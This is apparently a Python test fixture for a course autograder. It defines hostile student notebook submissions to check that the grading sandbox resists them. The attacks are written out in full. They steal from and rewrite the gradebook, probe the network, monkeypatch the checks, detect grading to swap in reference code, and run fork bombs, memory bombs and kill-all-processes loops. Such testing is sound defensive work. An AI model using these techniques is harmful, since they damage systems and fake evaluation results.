'''Hostile and broken submissions of the guard assignment (tests/fixtures/guard_course).

Each :class:`Hostile` is one student: what it tries (``attack``), the answer cells it
replaces (``answers``: answer-cell grade_id -> source; the other answers are the correct
ones from ``CORRECT``), and what else it does to the notebook (extra cells, edited or
deleted cells, edited cell metadata). ``zero`` names the test cells that must score 0:
its honest worth. Every other test cell keeps full marks (``POINTS``), whatever the
submission did to the grader, its kernel, its neighbours or the gradebook.

Sources may hold placeholders the test fills in, so the attacks aim at the real targets
(the worst case: a student who knows the layout of the grading machine):
``@@ROOT@@`` the course root, ``@@DB@@`` the gradebook file, ``@@PORT@@`` a TCP port the
test listens on at 127.0.0.1, ``@@CANARY@@`` a folder of the grading machine that only
code running outside the sandbox could write to.

Why each grade (exercise -> function): test_zero_pad -> zero_pad, test_conv_output_size
-> conv_output_size, test_conv_single_step -> conv_single_step, test_conv_forward ->
conv_forward (which calls zero_pad and conv_single_step), test_pool_forward_max ->
pool_forward. A function that is wrong, missing or crashes costs its own test and the
tests of the functions calling it. Tampering with the grader costs nothing by itself: every
test after the tampering cell is still graded (the checks run in the grader, so their
verdict stands) and flagged for review (``review``): export says "needs review" with the
reason and the cell, autograde's summary lists the submission, and the formgrader shows
those grades as needing a person (cnn_course/autograde/static/, executor, workers).
'''

from __future__ import annotations

import copy
from dataclasses import dataclass, field

from .convolution import CORRECT as _CONV

ASSIGNMENT = "00_guard"
NOTEBOOK = "00_guard"

POINTS: dict[str, float] = {
    "test_zero_pad": 1.0,
    "test_conv_output_size": 1.0,
    "test_conv_single_step": 1.0,
    "test_conv_forward": 2.0,
    "test_pool_forward_max": 1.0,
}
MAX_SCORE = sum(POINTS.values())

CORRECT: dict[str, str] = {k: _CONV[k] for k in
                           ("zero_pad", "conv_output_size", "conv_single_step", "conv_forward", "pool_forward")}

USERS = {  # test cell -> the answer cells whose functions it runs
    "test_zero_pad": {"zero_pad"},
    "test_conv_output_size": {"conv_output_size"},
    "test_conv_single_step": {"conv_single_step"},
    "test_conv_forward": {"conv_forward", "zero_pad", "conv_single_step"},
    "test_pool_forward_max": {"pool_forward"},
}


@dataclass(frozen=True)
class Cell:
    """A code cell the student added, after the cell ``after`` (a grade_id; "" = first)."""

    after: str
    source: str
    nbgrader: dict | None = None  # nbgrader metadata (a fake grade cell); None: a plain cell


@dataclass(frozen=True)
class Hostile:
    name: str  # student id
    attack: str  # what it tries, in one line
    zero: frozenset  # test cells that must score 0; every other one keeps full marks
    answers: dict = field(default_factory=dict)  # answer grade_id -> source (others: CORRECT)
    extra: tuple = ()  # Cell(...)s added
    edits: dict = field(default_factory=dict)  # grade_id of a locked cell -> new source (+ a fake ✓ output)
    metadata: dict = field(default_factory=dict)  # grade_id -> updates of its nbgrader metadata
    delete: frozenset = frozenset()  # grade_ids of cells removed
    review: frozenset = frozenset()  # test cells graded after tampering: flagged for a person to confirm

    @property
    def expected(self) -> dict[str, float]:
        """The exact score of every test cell."""
        return {t: 0.0 if t in self.zero else p for t, p in POINTS.items()}

    @property
    def total(self) -> float:
        return sum(self.expected.values())


def _wrong(name: str) -> str:
    """A plausible wrong version of an answer (a common bug)."""
    return {
        "zero_pad": CORRECT["zero_pad"].replace("((0, 0), (0, 0), (pad, pad), (pad, pad))",
                                                "((0, 0), (pad, pad), (pad, pad), (0, 0))"),
        "conv_output_size": CORRECT["conv_output_size"].replace("// stride + 1", "/ stride + 1"),
        "conv_single_step": CORRECT["conv_single_step"].replace("Z = Z + float(b)", "Z = Z"),
        "conv_forward": CORRECT["conv_forward"].replace("conv_single_step(a_slice_prev, W[c], b[c])",
                                                        "conv_single_step(a_slice_prev, W[c], 0.0)"),
        "pool_forward": CORRECT["pool_forward"].replace("A[i, c, h, w] = np.max(window)",
                                                        "A[i, c, h, w] = np.mean(window)"),
    }[name]


def _gated(name: str, flag: str) -> str:
    """The correct function while ``flag`` (a global of the cell) is truthy, the wrong one
    otherwise: an attack that found what it looked for would earn the points."""
    right = CORRECT[name].replace(f"def {name}(", f"def _right_{name}(")
    wrong = _wrong(name).replace(f"def {name}(", f"def _wrong_{name}(")
    sig = {
        "zero_pad": "X, pad", "conv_output_size": "n, f, pad, stride", "conv_single_step": "a_slice_prev, W, b",
        "conv_forward": "A_prev, W, b, stride=1, pad=0", "pool_forward": 'A_prev, f, stride, mode="max"',
    }[name]
    args = sig.replace("=1", "").replace("=0", "").replace('="max"', "")
    return (f"{right}\n{wrong}\n\ndef {name}({sig}):\n"
            f"    if {flag}:\n        return _right_{name}({args})\n    return _wrong_{name}({args})\n")


def _body(name: str, lines: str) -> str:
    """``def name(<its arguments>):`` followed by ``lines`` (already indented)."""
    sig = CORRECT[name].split(f"def {name}(", 1)[1].split("):", 1)[0]
    return f"def {name}({sig}):\n{lines}"


# --------------------------------------------------------------------------- the attacks

_READ_GRADEBOOK = '''\
import glob
import os
import sqlite3

import numpy as np


def _steal():
    """Everything of the instructor's this kernel can read: the gradebook (which holds the
    hidden tests), the solutions, the other students' notebooks."""
    found = []
    dbs = ["@@DB@@", os.path.expanduser("~/.cache/cnn-course/gradebook.db")]
    dbs += ["../" * k + "gradebook.db" for k in range(1, 9)]
    for path in dbs:
        try:
            con = sqlite3.connect(f"file:{path}?mode=ro", uri=True, timeout=1)
            tables = con.execute("select name from sqlite_master").fetchall()
            sources = con.execute("select source from source_cell").fetchall() if tables else []
            if tables:
                found.append((path, len(tables), sum("HIDDEN" in (s or "") for (s,) in sources)))
        except Exception:
            pass
    for pattern in ("@@ROOT@@/solutions/*/*.ipynb", "@@ROOT@@/submitted/*/*/*.ipynb",
                    "@@ROOT@@/autograded/*/*/*.ipynb", "@@ROOT@@/source/*/*.ipynb",
                    "../../../solutions/*/*.ipynb", "../../../submitted/*/*/*.ipynb"):
        for path in glob.glob(pattern):
            try:
                with open(path) as fh:
                    found.append((path, len(fh.read())))
            except OSError:
                pass
    return found


STOLEN = _steal()
print("stolen:", STOLEN)
'''

_WALK = '''\
import os
import time

import numpy as np

SKIP = ("/proc", "/sys", "/dev", "/usr")
WANTED = ("gradebook", "00_guard", "solutions", "submitted", "autograded", "hidden")


def _walk(budget=4.0):
    """os.walk the whole file system for the course's files (a few seconds at most)."""
    t0, found = time.monotonic(), []
    here = os.path.realpath(os.getcwd())
    for top, dirs, files in os.walk("/"):
        if time.monotonic() - t0 > budget:
            break
        dirs[:] = [d for d in dirs if not os.path.join(top, d).startswith(SKIP)
                   and os.path.realpath(os.path.join(top, d)) != here]
        for name in files + dirs:
            if any(w in name.lower() for w in WANTED) and "site-packages" not in top \\
                    and "/nbgrader" not in top and "/cnn_course" not in top:
                found.append(os.path.join(top, name))
    return found


FOUND = _walk()
print("found on disk:", FOUND[:20])
'''

_WRITE_SCORES = '''\
import glob
import os
import sqlite3

for path in ["@@DB@@", "../gradebook.db", "../../gradebook.db", "../../../gradebook.db",
             os.path.expanduser("~/.cache/cnn-course/gradebook.db")] + glob.glob("/*/gradebook.db"):
    try:
        con = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=1)
        con.execute("update grade set manual_score = max_score, auto_score = max_score")
        con.execute("update submitted_notebook set flagged = 0")
        con.commit()
        print("wrote scores into", path)
    except Exception as e:
        print("could not write", path, type(e).__name__)
for path in ["@@ROOT@@/canary.txt", "@@ROOT@@/pwned.txt", "@@CANARY@@/write_scores.txt"]:
    try:
        with open(path, "w") as fh:
            fh.write("owned")
        print("wrote", path)
    except OSError as e:
        print("could not write", path, type(e).__name__)
'''

_NETWORK = '''\
import socket

import numpy as np


def _phone_home():
    """Connections to the outside world and to the grading machine itself."""
    reached = []
    for host, port in (("1.1.1.1", 53), ("8.8.8.8", 443), ("127.0.0.1", @@PORT@@), ("localhost", @@PORT@@),
                       ("pypi.org", 443)):
        try:
            with socket.create_connection((host, port), timeout=2) as s:
                s.sendall(b"conv_forward answers please")
            reached.append((host, port))
        except OSError:
            pass
    try:
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.sendto(b"udp hello", ("127.0.0.1", @@PORT@@))
    except OSError:
        pass
    return reached


REACHED = _phone_home()
print("network reached:", REACHED)
'''

_FORGE_FILES = '''\
import json
import os

import numpy as np


def _forge():
    """Overwrite whatever the grader exchanges with the kernel through files with a
    "passed" answer, and make the files and their folder read-only."""
    for top, dirs, files in os.walk(os.getcwd()):
        for name in files:
            path = os.path.join(top, name)
            if name.endswith((".ipynb", ".py")):
                continue
            try:
                with open(path, "w") as fh:
                    json.dump({"ok": True, "passed": True, "result": None, "found": None}, fh)
                os.chmod(path, 0o444)
            except OSError:
                pass
        for name in dirs:
            try:
                os.chmod(os.path.join(top, name), 0o555)
            except OSError:
                pass


'''

HOSTILE: list[Hostile] = [
    # ---- reading what the kernel must not see, and using it
    Hostile("read_gradebook", "reads ../../../gradebook.db, the absolute gradebook path, solutions/ and other "
            "students' notebooks; earns the points only if it found any of them",
            frozenset({"test_conv_forward"}),
            answers={"conv_forward": _READ_GRADEBOOK + _gated("conv_forward", "STOLEN")}),
    Hostile("walk_filesystem", "os.walk of the whole file system looking for the gradebook, solutions and "
            "submissions; earns the points only if it found any",
            frozenset({"test_pool_forward_max"}),
            answers={"pool_forward": _WALK + _gated("pool_forward", "FOUND")}),
    Hostile("write_scores", "writes full manual scores into the gradebook with sqlite3 (relative and absolute "
            "paths), overwrites a file next to it; every function returns None",
            frozenset(POINTS),
            answers={"zero_pad": _WRITE_SCORES + "\n\n" + _body("zero_pad", "    return None\n"),
                     "conv_output_size": _body("conv_output_size", "    return None\n"),
                     "conv_single_step": _body("conv_single_step", "    return None\n"),
                     "conv_forward": _body("conv_forward", "    return None\n"),
                     "pool_forward": _body("pool_forward", "    return None\n")}),
    Hostile("network", "connects to outside IPs, to a server of the grading machine on localhost and to pypi; "
            "earns the points only if a connection worked",
            frozenset({"test_conv_forward"}),
            answers={"conv_forward": _NETWORK + _gated("conv_forward", "REACHED")}),
    # ---- monkeypatching the checks
    Hostile("patch_numpy", "replaces np.allclose/np.isclose/np.testing.assert_allclose/np.array_equal, then "
            "hands in a wrong conv_forward (tampering: every test after that cell needs review)",
            frozenset({"test_conv_forward"}), review=frozenset({"test_conv_forward", "test_pool_forward_max"}),
            answers={"conv_forward": "import numpy as np\n\n"
                     "np.allclose = lambda *a, **k: True\n"
                     "np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(a, b).shape, dtype=bool)\n"
                     "np.testing.assert_allclose = lambda *a, **k: None\n"
                     "np.array_equal = lambda *a, **k: True\n\n" + _wrong("conv_forward")}),
    Hostile("patch_numpy_quietly", "replaces np.allclose/np.isclose/np.array_equal through a loop variable "
            "(invisible to the static look), then hands in wrong conv_forward and pool_forward",
            frozenset({"test_conv_forward", "test_pool_forward_max"}),
            extra=(Cell("setup", "import numpy as np\n\nfor _m in [np, np.testing]:\n"
                                 "    _m.allclose = lambda *a, **k: True\n"
                                 "    _m.assert_allclose = lambda *a, **k: None\n"
                                 "for _m in [np]:\n"
                                 "    _m.isclose = lambda a, b, *r, **k: True\n"
                                 "    _m.array_equal = lambda *a, **k: True\n"),),
            answers={"conv_forward": _wrong("conv_forward"), "pool_forward": _wrong("pool_forward")}),
    Hostile("patch_checks", "replaces cnn_course.grading.core.run_check/compare, the topic check "
            "conv_forward and builtins.isinstance with always-pass versions, then hands in a wrong conv_single_step",
            frozenset({"test_conv_single_step", "test_conv_forward"}),
            review=frozenset({"test_conv_single_step", "test_conv_forward", "test_pool_forward_max"}),
            answers={"conv_single_step": "import numpy as np\n"
                     "import cnn_course.grading.core as core\n"
                     "from cnn_course.grading import convolution\n\n"
                     "core.run_check = lambda name, func, cases, **kw: print(f'✓ {name}: all cases passed')\n"
                     "core.compare = lambda *a, **k: None\n"
                     "convolution.conv_forward = lambda *a, **k: print('✓ conv_forward: 3 visible cases passed')\n"
                     "import builtins\nbuiltins.isinstance = lambda obj, cls: True\n"
                     "\n\n" + _wrong("conv_single_step")}),
    Hostile("shadow_builtins", "redefines isinstance, len, print, abs and AssertionError in the notebook, then "
            "hands in a wrong conv_output_size",
            frozenset({"test_conv_output_size"}),
            extra=(Cell("setup", "def isinstance(obj, cls):\n    return True\n\n\ndef len(obj):\n    return 0\n\n\n"
                                 "def print(*args, **kwargs):\n    pass\n\n\nabs = lambda x: 0\n"
                                 "AssertionError = Warning\n"),),
            answers={"conv_output_size": _wrong("conv_output_size")}),
    Hostile("env_detect_ref", "calls cnn_course.ref only when NBGRADER_EXECUTION says it is being graded",
            frozenset({"test_conv_forward"}),
            answers={"conv_forward": "import os\n\nimport numpy as np\n\n"
                     + CORRECT["conv_forward"].replace("def conv_forward(", "def _mine(") + "\n\n"
                     "def conv_forward(A_prev, W, b, stride=1, pad=0):\n"
                     "    if os.environ.get('NBGRADER_EXECUTION') or 'autograde' in os.getcwd():\n"
                     "        from cnn_course.ref.conv import conv2d_forward as fast\n"
                     "        Z, _ = fast(A_prev, W, b, stride=stride, pad=pad)\n"
                     "        return Z, (A_prev, W, b, stride, pad)\n"
                     "    return _mine(A_prev, W, b, stride, pad)\n"}),
    Hostile("env_detect_importlib", "imports cnn_course.ref by a computed name with importlib when it detects "
            "grading",
            frozenset({"test_pool_forward_max"}),
            answers={"pool_forward": "import numpy as np\n\n" + _body("pool_forward",
                     "    import importlib\n    import os\n"
                     "    if os.environ.get('NBGRADER_EXECUTION'):\n"
                     "        lib = importlib.import_module('cnn_' + 'course.ref')\n"
                     "        A, _ = lib.pool2d_forward(A_prev, f=f, stride=stride, mode=mode)\n"
                     "        return A, (A_prev, f, stride, mode)\n"
                     "    raise NotImplementedError()\n")}),
    Hostile("ref_aliases", "conv_forward through `from cnn_course.ref.conv import conv2d_forward as f`, "
            "pool_forward through `import cnn_course` + cnn_course.ref.pool2d_forward",
            frozenset({"test_conv_forward", "test_pool_forward_max"}),
            answers={"conv_forward": "import numpy as np\nfrom cnn_course.ref.conv import conv2d_forward as f\n\n\n"
                     "def conv_forward(A_prev, W, b, stride=1, pad=0):\n"
                     "    Z, _ = f(A_prev, W, b, stride=stride, pad=pad)\n"
                     "    return Z, (A_prev, W, b, stride, pad)\n",
                     "pool_forward": "import numpy as np\nimport cnn_course\n\n\n"
                     "def _helper(x, f, s):\n"
                     "    return cnn_course.ref.pool2d_forward(x, f=f, stride=s, mode='max')[0]\n\n\n"
                     "def pool_forward(A_prev, f, stride, mode='max'):\n"
                     "    return _helper(A_prev, f, stride), (A_prev, f, stride, mode)\n"}),
    # ---- tampering with the grader (every test after the tampering cell is flagged for review)
    Hostile("disable_watcher", "sys.setprofile(None) in the conv_forward cell, to switch the kernel-side "
            "call watcher off (conv_forward itself is correct)",
            frozenset(), review=frozenset({"test_conv_forward", "test_pool_forward_max"}),
            answers={"conv_forward": "import sys\n\nimport numpy as np\n\nsys.setprofile(None)\n\n"
                     + CORRECT["conv_forward"]}),
    Hostile("gc_walk", "walks gc.get_objects() for the grader's functions right after the setup cell "
            "(every answer is correct)",
            frozenset(), review=frozenset(POINTS),
            extra=(Cell("setup", "import gc\n\nfor obj in gc.get_objects():\n"
                                 "    if callable(obj) and getattr(obj, '__name__', '') == 'run_check':\n"
                                 "        print('found the grader')\n"),)),
    Hostile("exec_answer", "defines conv_output_size with exec() (tampering: every test from there on)",
            # the exec'd conv_output_size (correct but for the filter that does not fit) is graded as it is
            frozenset({"test_conv_output_size"}),
            review=frozenset({"test_conv_output_size", "test_conv_single_step", "test_conv_forward",
                              "test_pool_forward_max"}),
            answers={"conv_output_size": 'exec("def conv_output_size(n, f, pad, stride):\\n'
                     '    return (n + 2 * pad - f) // stride + 1")\n'}),
    Hostile("forge_agent", "replaces the kernel agent's serve() with one that answers 'passed' (after the "
            "conv_single_step test), then hands in a wrong conv_forward",
            # its forged agent cannot answer the grader any more: what the kernel no longer runs scores 0
            frozenset({"test_conv_forward", "test_pool_forward_max"}),
            review=frozenset({"test_conv_forward", "test_pool_forward_max"}),
            extra=(Cell("test_conv_single_step",
                        "import json\n\ntry:\n"
                        "    __cnn_agent__.serve = lambda req, resp: open(resp, 'w').write(json.dumps({'ok': True}))\n"
                        "except NameError:\n    pass\n"),),
            answers={"conv_forward": _wrong("conv_forward")}),
    Hostile("forge_files", "a wrong conv_forward that overwrites every file of its work dir (where the grader "
            "and its agent exchange messages) with a 'passed' answer and makes them read-only",
            frozenset({"test_conv_forward"}),
            answers={"conv_forward": _FORGE_FILES + CORRECT["conv_forward"].replace("def conv_forward(", "def _cf(")
                     + "\n\ndef conv_forward(A_prev, W, b, stride=1, pad=0):\n    _forge()\n"
                     "    Z, cache = _cf(A_prev, W, b, stride, pad)\n    return Z + 1.0, cache\n"}),
    Hostile("hidden_module", "%%writefile a helper module that imports cnn_course.ref, then imports it in the "
            "conv_forward cell (code the grader cannot read: tampering from there on)",
            frozenset({"test_conv_forward"}), review=frozenset({"test_conv_forward", "test_pool_forward_max"}),
            extra=(Cell("conv_single_step", "%%writefile helper_mod.py\nfrom cnn_course.ref import conv2d_forward\n"),),
            answers={"conv_forward": "import numpy as np\nfrom helper_mod import conv2d_forward as _cf\n\n\n"
                     "def conv_forward(A_prev, W, b, stride=1, pad=0):\n"
                     "    Z, _ = _cf(A_prev, W, b, stride=stride, pad=pad)\n"
                     "    return Z, (A_prev, W, b, stride, pad)\n"}),
    # ---- editing the notebook's structure
    Hostile("edit_tests", "replaces the conv_forward and zero_pad test cells with a print of '✓' (and a fake "
            "✓ output), hands in a wrong conv_forward",
            frozenset({"test_conv_forward"}),
            edits={"test_conv_forward": "print('✓ conv_forward: 3 visible cases passed')",
                   "test_zero_pad": "pass"},
            answers={"conv_forward": _wrong("conv_forward")}),
    Hostile("delete_tests", "deletes the conv_forward and pool_forward test cells, hands in a wrong conv_forward",
            frozenset({"test_conv_forward"}),
            delete=frozenset({"test_conv_forward", "test_pool_forward_max"}),
            answers={"conv_forward": _wrong("conv_forward")}),
    Hostile("metadata_points", "sets every test cell's points to 100 (all answers correct)",
            frozenset(),
            metadata={t: {"points": 100} for t in POINTS}),
    Hostile("metadata_unlock", "turns the conv_forward test cell into an unlocked answer cell (solution: true, "
            "grade: false) printing '✓', hands in a wrong conv_forward",
            frozenset({"test_conv_forward"}),
            edits={"test_conv_forward": "print('✓ conv_forward: 3 visible cases passed')"},
            metadata={"test_conv_forward": {"solution": True, "grade": False, "locked": False}},
            answers={"conv_forward": _wrong("conv_forward")}),
    Hostile("fake_grade_cell", "adds a 100-point grade cell of its own that writes outside the sandbox, and a "
            "duplicate of the conv_forward test cell that prints '✓' (all answers correct)",
            frozenset(),
            extra=(Cell("conv-forward-example",
                        "print('✓ conv_forward: 3 visible cases passed')",
                        {"grade": True, "grade_id": "test_conv_forward", "locked": True, "points": 2,
                         "schema_version": 3, "solution": False, "task": False}),
                   Cell("test_pool_forward_max",
                        "import os\nopen('@@CANARY@@/fake_grade_cell.txt', 'w').write('the judge ran my code')\n"
                        "print('✓ bonus: 100 points')",
                        {"grade": True, "grade_id": "test_bonus", "locked": True, "points": 100,
                         "schema_version": 3, "solution": False, "task": False}))),
    # ---- crashes, hangs and resource bombs (each costs only the exercise it breaks)
    Hostile("infinite_loop", "conv_output_size loops forever (while True: pass)",
            frozenset({"test_conv_output_size"}),
            answers={"conv_output_size": _body("conv_output_size", "    while True:\n        pass\n")}),
    Hostile("swallow_interrupt_cell", "after defining conv_single_step, its cell loops forever swallowing "
            "KeyboardInterrupt (the kernel must be killed; the function is lost with the cell)",
            frozenset({"test_conv_single_step", "test_conv_forward"}),
            answers={"conv_single_step": CORRECT["conv_single_step"] + "\n\nimport time\n\nwhile True:\n"
                     "    try:\n        time.sleep(0.05)\n    except KeyboardInterrupt:\n        pass\n"}),
    Hostile("swallow_interrupt_call", "pool_forward loops forever catching BaseException",
            frozenset({"test_pool_forward_max"}),
            answers={"pool_forward": _body("pool_forward", "    while True:\n        try:\n            pass\n"
                                                           "        except BaseException:\n            pass\n")}),
    Hostile("sleep_forever", "conv_output_size calls time.sleep(10**6)",
            frozenset({"test_conv_output_size"}),
            answers={"conv_output_size": "import time\n\n\n" + _body("conv_output_size",
                                                                    "    time.sleep(10**6)\n    return 0\n")}),
    Hostile("os_exit_cell", "the zero_pad cell calls os._exit(1) before defining zero_pad (kernel dies)",
            frozenset({"test_zero_pad", "test_conv_forward"}),
            answers={"zero_pad": "import os\nos._exit(1)\n\n" + CORRECT["zero_pad"]}),
    Hostile("segfault_call", "conv_output_size dereferences a null pointer with ctypes (segfault in the call)",
            frozenset({"test_conv_output_size"}),
            answers={"conv_output_size": "import ctypes\n\n\n" + _body("conv_output_size",
                                                                      "    ctypes.string_at(0)\n    return 0\n")}),
    Hostile("kill_everything", "conv_single_step sends SIGKILL to every process it may signal (os.kill(-1, 9)), "
            "then to every pid up to 4096 but its own (the sandbox's init included); returns a wrong value",
            frozenset({"test_conv_single_step", "test_conv_forward"}),
            answers={"conv_single_step": "import os\nimport signal\n\n\n" + _body(
                "conv_single_step",
                "    if os.getuid() != 0:  # never as root (the suite refuses to run unsandboxed)\n"
                "        for target in [-1] + [p for p in range(1, 4096) if p != os.getpid()]:\n"
                "            try:\n                os.kill(target, signal.SIGKILL)\n"
                "            except OSError:\n                pass\n"
                "    return float(np.sum(a_slice_prev * W))\n")}),
    Hostile("memory_bomb", "pool_forward allocates 100 MB blocks until memory runs out",
            frozenset({"test_pool_forward_max"}),
            answers={"pool_forward": _body("pool_forward", "    hoard = []\n    while True:\n"
                                                           "        hoard.append(bytearray(10**8))\n")}),
    Hostile("fork_bomb", "conv_forward forks forever (while True: os.fork())",
            frozenset({"test_conv_forward"}),
            answers={"conv_forward": "import os\n\n\n" + _body("conv_forward", "    while True:\n        os.fork()\n")}),
    Hostile("huge_file", "pool_forward writes a 10 GB file in its work dir and in /tmp",
            frozenset({"test_pool_forward_max"}),
            answers={"pool_forward": "import os\n\n\n" + _body(
                "pool_forward", "    block = b'x' * 2**24\n    for path in ('big.bin', '/tmp/big.bin'):\n"
                                "        try:\n            with open(path, 'wb') as fh:\n"
                                "                for _ in range(640):\n                    fh.write(block)\n"
                                "        except OSError as e:\n            print(path, type(e).__name__)\n"
                                "    return None\n")}),
    Hostile("disk_filler", "conv_forward writes 80 files of 63 MiB (4.9 GiB, each under the 64 MiB file limit) "
            "into its work dir, then computes the right answer",
            frozenset({"test_conv_forward"}),
            answers={"conv_forward": CORRECT["conv_forward"].replace("def conv_forward(", "def _cf(")
                     + "\n\ndef conv_forward(A_prev, W, b, stride=1, pad=0):\n"
                     "    for i in range(80):\n        with open(f'fill{i}.bin', 'wb') as fh:\n"
                     "            fh.write(b'\\0' * (63 * 2**20))\n"
                     "    return _cf(A_prev, W, b, stride, pad)\n"}),
    Hostile("huge_print", "prints 1 GiB from a cell and 1 MiB from every conv_output_size call (all answers "
            "correct)",
            frozenset(),
            extra=(Cell("test_zero_pad", "import sys\n\nchunk = 'x' * 2**20 + '\\n'\nfor _ in range(1024):\n"
                                         "    sys.stdout.write(chunk)\n"),),
            answers={"conv_output_size": "import sys\n\n\n" + _body(
                "conv_output_size", "    sys.stdout.write('y' * 2**20)\n    if f > n + 2 * pad:\n"
                                   "        raise ValueError('the filter does not fit')\n"
                                   "    return (n + 2 * pad - f) // stride + 1\n")}),
    Hostile("syntax_error", "the conv_single_step cell does not compile",
            frozenset({"test_conv_single_step", "test_conv_forward"}),
            answers={"conv_single_step": "def conv_single_step(a_slice_prev, W, b)\n    return np.sum(a_slice_prev * W) + b\n"}),
]

HONEST: list[Hostile] = [
    Hostile("honest_correct", "every answer correct", frozenset()),
    Hostile("honest_one_bug", "conv_forward forgets the bias", frozenset({"test_conv_forward"}),
            answers={"conv_forward": _wrong("conv_forward")}),
]

BY_NAME = {h.name: h for h in HOSTILE + HONEST}


# --------------------------------------------------------------------------- building notebooks


def _gid(cell) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def fill(source: str, values: dict[str, str]) -> str:
    for key, value in values.items():
        source = source.replace(f"@@{key}@@", value)
    return source


def build(release_nb, h: Hostile, values: dict[str, str] | None = None):
    """The submitted notebook of ``h``: the release notebook with its answers filled in and
    its edits applied; ``values`` fills the placeholders (ROOT, DB, PORT, CANARY)."""
    import nbformat

    values = values or {}
    nb = copy.deepcopy(release_nb)
    answers = {**CORRECT, **h.answers}
    unknown = (set(answers) | set(h.edits) | set(h.metadata) | set(h.delete) | {c.after for c in h.extra if c.after}) \
        - {_gid(c) for c in nb.cells}
    if unknown:
        raise KeyError(f"{h.name}: no cell(s) {sorted(unknown)} in the notebook")
    for c in nb.cells:
        gid = _gid(c)
        nbg = c.get("metadata", {}).get("nbgrader", {})
        if nbg.get("solution") and gid in answers:
            c.source = fill(answers[gid], values)
        if gid in h.edits:
            c.source = fill(h.edits[gid], values)
            c.outputs = [nbformat.v4.new_output("stream", name="stdout", text="✓ all cases passed\n")]
        if gid in h.metadata:
            nbg.update(h.metadata[gid])
    for extra in reversed(h.extra):
        cell = nbformat.v4.new_code_cell(fill(extra.source, values))
        if extra.nbgrader is not None:
            cell.metadata["nbgrader"] = dict(extra.nbgrader)
        ids = [_gid(c) for c in nb.cells]
        nb.cells.insert(ids.index(extra.after) + 1 if extra.after else 0, cell)
    nb.cells = [c for c in nb.cells if _gid(c) not in h.delete]
    return nb
